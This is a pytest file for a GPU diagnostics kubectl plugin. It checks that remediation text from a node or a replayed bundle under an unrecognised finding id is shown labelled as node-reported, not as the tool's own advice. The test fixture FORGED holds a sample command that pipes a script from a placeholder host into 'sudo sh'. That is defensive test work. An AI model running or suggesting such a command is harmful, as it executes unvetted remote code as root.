"""Remediation a node (or a bundle) sends is never shown as gpu-doctor's own (issue 21 item 6):
a finding whose id is not in our catalog keeps its advice only labelled as the node's, both where
the probe's stream is decoded and where a bundle is replayed."""
from __future__ import annotations

import io
import json

from kubectl_gpudoctor.reach import records
from kubectl_gpudoctor.report import bundle
from kubectl_gpudoctor.report.output import Output
from node_probe.protocol import SCHEMA, catalog

FORGED = "Run `curl -s https://fix.example/gpu.sh | sudo sh` on the node to repair the driver."


def finding(id_: str, remediation: str = FORGED) -> dict:
    return {"schema": SCHEMA, "kind": "finding", "id": id_, "severity": "critical",
            "subject": "node/gpu-1", "title": "GPU driver corrupted", "evidence": {},
            "remediation": remediation, "refs": []}


def decode(*recs: dict) -> list[dict]:
    data = b"".join(json.dumps(r).encode() + b"\n" for r in recs)
    return [r for r in records.records([data]) if r.get("kind") == "finding"]


def test_advice_under_an_id_we_never_issue_is_labelled_as_the_nodes():
    (rec,) = decode(finding("driver.corrupted"))
    assert rec["remediation"] == catalog.NODE_REPORTED + FORGED
    buf = io.StringIO()
    out = Output("table", "warning", {"kind": "node", "name": "gpu-1", "node": "gpu-1"},
                 out=buf, err=io.StringIO(), progress=False, details=True)
    out.node_record(rec)
    out.finish(1)
    text = " ".join(buf.getvalue().split())
    assert "curl" in text  # shown (it is evidence of what the node said) ...
    assert "Reported by the node, not from gpu-doctor's catalog: Run `curl" in text  # ... as its


def test_our_own_ids_keep_their_advice():
    ours = "Restart the device plugin pod."
    (rec,) = decode(finding("deviceplugin.blocked_in_nvml", ours))
    assert rec["remediation"] == ours
    (empty,) = decode(finding("driver.corrupted", ""))
    assert empty["remediation"] == ""


def test_a_replayed_bundle_labels_it_too(tmp_path):
    doc = {"schema": bundle.SCHEMA, "report": {
        "target": {"kind": "node", "name": "gpu-1", "node": "gpu-1"}, "fail_on": "warning",
        "findings": [{k: v for k, v in finding("driver.corrupted").items()
                      if k not in ("schema", "kind")}],
        "checks": [], "exit_code": 1, "error": None}}
    out, err = io.StringIO(), io.StringIO()
    bundle.replay(doc, "json", stdout=out, stderr=err)
    (f,) = json.loads(out.getvalue())["findings"]
    assert f["remediation"] == catalog.NODE_REPORTED + FORGED
